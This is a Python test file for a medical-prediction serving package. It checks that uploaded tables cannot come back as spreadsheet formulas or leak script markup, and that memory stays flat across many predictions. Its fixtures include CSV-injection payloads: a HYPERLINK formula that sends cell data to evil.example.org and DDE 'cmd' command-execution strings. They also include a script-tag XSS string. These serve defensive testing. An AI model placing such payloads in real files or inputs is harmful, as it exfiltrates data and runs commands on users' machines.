"""What leaves the program after a hostile table, and memory over many predictions."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from helpers import ROOT
from served import patients, serve

from osml.serving import Model, load, read_upload, record, rows_csv

FORMULAS = (
    "=HYPERLINK(\"http://evil.example.org/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "=1+1\n=2+2",
)  # fmt: skip
HOSTILE = "<script>alert(1)</script>"


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return serve(tmp_path_factory.mktemp("attacked"))


@pytest.fixture(scope="module")
def model(run: Path) -> Model:
    return load(run)


def as_csv(rows: list[dict[str, str]]) -> bytes:
    stream = io.StringIO()
    writer = csv.DictWriter(stream, list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    return stream.getvalue().encode("utf-8")


def as_xlsx(rows: list[dict[str, str]]) -> bytes:
    book = openpyxl.Workbook()
    page = book.active
    page.append(list(rows[0]))
    for row in rows:
        page.append([float(v) if k in ("age", "marker", "size") and v else v for k, v in row.items()])
        for cell in page[page.max_row]:
            cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type  # texts that look like formulas
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize("column", ["id", "sex"])
@pytest.mark.parametrize("sheet", [False, True])
def test_no_cell_of_an_upload_comes_back_as_a_formula(model: Model, column: str, sheet: bool) -> None:
    formulas = [text for text in FORMULAS if not sheet or text.isprintable()]
    rows = [row | {"marker": row["marker"] or "3"} for row in patients()[: len(formulas)]]
    for row, formula in zip(rows, formulas, strict=True):
        row[column] = formula
    raw = as_xlsx(rows) if sheet else as_csv(rows)
    out = rows_csv(model, model.predict(read_upload(raw, model)))
    read = list(csv.reader(io.StringIO(out, newline="")))
    assert len(read) == 1 + len(rows)
    for line in read:
        for cell in line:
            try:
                float(cell)
            except ValueError:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_a_hostile_id_is_neither_in_the_record_nor_in_its_markup(model: Model) -> None:
    rows = [patients()[0] | {"id": HOSTILE, "marker": "3"}]
    text = json.dumps(record(model, read_upload(as_csv(rows), model)))
    assert HOSTILE not in text
    assert model.predict(read_upload(as_csv(rows), model))[0].unit == HOSTILE


FLAT = """
import sys
from osml.serving import load, record
def resident():
    return int(open('/proc/self/status').read().split('VmRSS:')[1].split()[0]) / 1024
model = load(sys.argv[1])
def one(k):
    cells = {'age': f'{30 + k % 50}.5', 'marker': '' if k % 7 == 0 else '240', 'size': '77', 'sex': 'male'}
    table = model.one_row({**cells, 'stage': 'late'})
    row = model.predict(table)[0]
    assert row.ok, row.status
    model.explain(table); model.answers(table); model.gaps(table)
    if k % 10 == 0:
        model.sheet(table); record(model, table)
for k in range(100): one(k)
warm = resident()
for k in range(1000): one(k)
print(resident() - warm)
"""


@pytest.mark.full
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="resident memory is read from /proc")
def test_a_thousand_predictions_in_flat_memory(run: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-c", FLAT, str(run)], capture_output=True, text=True, check=False, cwd=ROOT, timeout=900
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert float(done.stdout) < 15  # MB
